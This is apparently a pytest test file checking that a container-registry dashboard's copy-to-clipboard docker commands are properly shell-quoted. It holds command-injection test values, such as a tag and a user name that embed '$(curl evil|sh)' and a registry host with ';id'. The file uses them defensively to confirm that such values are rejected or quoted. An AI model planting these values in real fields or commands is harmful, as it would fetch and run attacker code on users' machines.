"""Copy-to-clipboard shell commands are safe to paste, whatever the cluster sends: a tag
outside Docker's grammar never reaches a command, and every value in a command is quoted."""

import html
import re
import shlex

import pytest

from imgdash.emulator.users import User

pytestmark = pytest.mark.django_db

HOSTILE_TAG = "v1$(curl evil|sh)"
HOSTILE_SUBJECT = "ops;$(curl evil|sh)'`id`"


@pytest.fixture
def hostile_repository(emulator):
    emulator.repositories.put(
        {
            "name": "team-a/evil",
            "owner": "team-a",
            "scope": "global",
            "tags": [{"name": HOSTILE_TAG, "manifest": {}}, {"name": "1.0", "manifest": {}}],
        }
    )
    return "team-a/evil"


def commands_on(response):
    """The text of every <code> block on the page that is a command (as it would be copied)."""
    blocks = re.findall(r"<code[^>]*>(.*?)</code>", response.content.decode(), re.S)
    return [html.unescape(b) for b in blocks if b.startswith(("docker ", "cloudctl "))]


def is_quoted(command):
    """True when each word is quoted as shlex.quote would: a shell reads it as that literal."""
    return command == " ".join(shlex.quote(word) for word in shlex.split(command))


def test_a_tag_outside_dockers_grammar_is_shown_as_invalid_and_never_in_a_command(
    client, operator, cluster, emulator, hostile_repository
):
    response = client.get(f"/clusters/{cluster.slug}/repositories/{hostile_repository}/")
    assert response.status_code == 200
    commands = commands_on(response)
    assert commands
    assert not [c for c in commands if "curl" in c]
    assert all(is_quoted(c) for c in commands)
    # The first pull command takes the first tag that is valid.
    assert f"docker pull {cluster.registry_host}/team-a/evil:1.0" in commands
    page = response.content.decode()
    assert html.escape(HOSTILE_TAG) in page  # still shown, as text
    assert "invalid tag" in page


def test_a_token_subject_with_shell_characters_is_quoted_in_docker_login(
    client, operator, cluster, emulator, connect
):
    emulator.users[HOSTILE_SUBJECT] = User(HOSTILE_SUBJECT, "pw", {"team-a": "Administrator"})
    connect(operator, HOSTILE_SUBJECT)
    response = client.post(f"/clusters/{cluster.slug}/docker-token/", {"repository": ""})
    assert response.status_code == 200
    (login,) = [c for c in commands_on(response) if c.startswith("docker login")]
    assert is_quoted(login)
    assert shlex.split(login) == [
        "docker",
        "login",
        "-u",
        HOSTILE_SUBJECT,
        "--password-stdin",
        cluster.registry_host,
    ]


def test_every_command_quotes_an_odd_registry_host_and_origin(
    client, operator, cluster, emulator, hostile_repository
):
    cluster.registry = "registry.example.com:8500;id"
    cluster.save()
    pages = [
        client.get(f"/clusters/{cluster.slug}/repositories/{hostile_repository}/"),
        client.get(f"/clusters/{cluster.slug}/status/"),
        client.get(f"/clusters/{cluster.slug}/connect/"),
        client.post(f"/clusters/{cluster.slug}/docker-token/", {"repository": hostile_repository}),
    ]
    commands = [c for page in pages for c in commands_on(page)]
    assert len(commands) >= 5
    assert all(is_quoted(c) for c in commands), commands
